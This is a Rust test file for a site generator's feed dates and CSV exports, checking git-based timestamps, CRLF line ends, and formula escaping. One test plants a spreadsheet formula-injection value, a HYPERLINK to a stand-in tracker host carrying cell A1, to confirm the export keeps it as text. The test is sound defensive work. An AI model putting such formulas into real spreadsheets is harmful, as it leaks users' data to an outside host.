//! Feed dates and CSV line ends, as a reader's feed reader and a
//! spreadsheet see them: entries dated when their file last changed in
//! git, an empty track's feed dated by its meeting, rows ended by CRLF,
//! and no cell a spreadsheet would run as a formula.

mod common;

use common::{build, copy_fixture, read};
use std::path::Path;
use std::process::Command;

/// Runs git in `root` with fixed names and dates; false if git is absent.
fn git(root: &Path, args: &[&str], date: &str) -> bool {
    let status = Command::new("git")
        .arg("-C")
        .arg(root)
        .args([
            "-c",
            "user.name=Rapporteur",
            "-c",
            "user.email=r@example.org",
        ])
        .args(args)
        .env("GIT_AUTHOR_DATE", date)
        .env("GIT_COMMITTER_DATE", date)
        .status();
    match status {
        Ok(status) => {
            assert!(status.success(), "git {args:?} failed");
            true
        }
        Err(_) => false,
    }
}

/// The `<updated>` of the entry whose link ends with `url_end`.
fn entry_updated<'f>(feed: &'f str, url_end: &str) -> &'f str {
    let entry = feed
        .split("<entry")
        .find(|e| e.contains(&format!("{url_end}\"/>")))
        .unwrap_or_else(|| panic!("no entry for {url_end} in {feed}"));
    let start = entry.find("<updated>").expect("an updated date") + "<updated>".len();
    &entry[start..start + entry[start..].find('<').expect("its end")]
}

#[test]
fn entries_are_updated_when_their_file_last_changed_in_git() {
    let dir = copy_fixture("basic");
    let root = dir.path();
    if !git(root, &["init", "-q"], "2022-01-01T00:00:00Z") {
        if std::env::var_os("CI").is_some() {
            panic!("git is missing");
        }
        eprintln!("skipping: git is missing");
        return;
    }
    git(root, &["add", "-A"], "2022-01-01T00:00:00Z");
    git(root, &["commit", "-qm", "archive"], "2022-03-04T05:06:07Z");
    common::replace_in(
        &root.join("content/2021/sessions/of-1.md"),
        "title:",
        "title: Revised",
    );
    git(
        root,
        &["commit", "-qam", "revise OF 1"],
        "2023-10-11T12:13:14+02:00",
    );
    let out = root.join("public");
    build(root, &out);
    let feed = read(&out, "en/feed.xml");
    assert_eq!(
        entry_updated(&feed, "/2021/sessions/of-1/index.html"),
        "2023-10-11T10:13:14Z"
    );
    assert_eq!(
        entry_updated(&feed, "/2020/sessions/ws-1/index.html"),
        "2022-03-04T05:06:07Z"
    );
    // The French feed's entry is the French translation's file.
    let french = read(&out, "fr/feed.xml");
    assert_eq!(
        entry_updated(&french, "/fr/2020/sessions/ws-1/index.html"),
        "2022-03-04T05:06:07Z"
    );
    let head = feed.split("<entry").next().unwrap();
    assert!(
        head.contains("<updated>2023-10-11T10:13:14Z</updated>"),
        "{head}"
    );

    // The same commit gives the same bytes.
    let again = root.join("again");
    build(root, &again);
    assert_eq!(read(&again, "en/feed.xml"), feed);
}

#[test]
fn without_git_entries_are_dated_by_the_document_and_empty_feeds_by_their_meeting() {
    let dir = copy_fixture("basic");
    let root = dir.path();
    common::replace_in(
        &root.join("content/2021/meeting.yaml"),
        "tracks:\n",
        "tracks:\n  inclusion:\n    title: Inclusion\n    description: Digital inclusion.\n",
    );
    let out = root.join("public");
    build(root, &out);
    let feed = read(&out, "en/feed.xml");
    assert_eq!(
        entry_updated(&feed, "/2020/sessions/ws-1/index.html"),
        "2020-11-10T00:00:00Z",
        "a session is dated by its own date"
    );
    let empty = read(&out, "en/tracks/inclusion/feed.xml");
    assert!(!empty.contains("<entry"), "{empty}");
    assert!(
        empty.contains("<updated>2021-12-10T00:00:00Z</updated>"),
        "{empty}"
    );
}

#[test]
fn csv_rows_end_with_crlf() {
    let (_dir, out) = common::built_fixture();
    let csv = read(&out, "data/2020-sessions.csv");
    assert!(csv.ends_with("\r\n"), "{csv:?}");
    let line_ends = csv.matches('\n').count();
    assert!(line_ends >= 3, "a header and two sessions: {csv:?}");
    assert_eq!(
        csv.matches("\r\n").count(),
        line_ends,
        "every line ends with CRLF: {csv:?}"
    );
}

#[test]
fn csv_cells_that_look_like_formulas_stay_text() {
    let dir = copy_fixture("basic");
    let report = dir.path().join("content/2020/sessions/ws-1.md");
    common::replace_in(
        &report,
        "title: Data flows and privacy",
        r#"title: '=HYPERLINK("https://tracker.example/?"&A1,"Data flows")'"#,
    );
    common::replace_in(
        &report,
        "  - Users must understand how their data is used.",
        "  - \"+1 more: users must understand how their data is used.\"",
    );
    let out = dir.path().join("public");
    build(dir.path(), &out);
    let csv = read(&out, "data/2020-sessions.csv");
    let mut rows = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let headers = rows.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let row = (rows.records())
        .map(Result::unwrap)
        .find(|r| r[column("title")].contains("HYPERLINK"))
        .expect("the report's row");
    assert_eq!(
        &row[column("title")],
        r#"'=HYPERLINK("https://tracker.example/?"&A1,"Data flows")"#
    );
    assert_eq!(
        &row[column("key_takeaway_2")],
        "'+1 more: users must understand how their data is used."
    );
    assert_eq!(
        &row[column("key_takeaway_1")],
        "Data protection needs cooperation across borders.",
        "ordinary text is left as it is"
    );
}
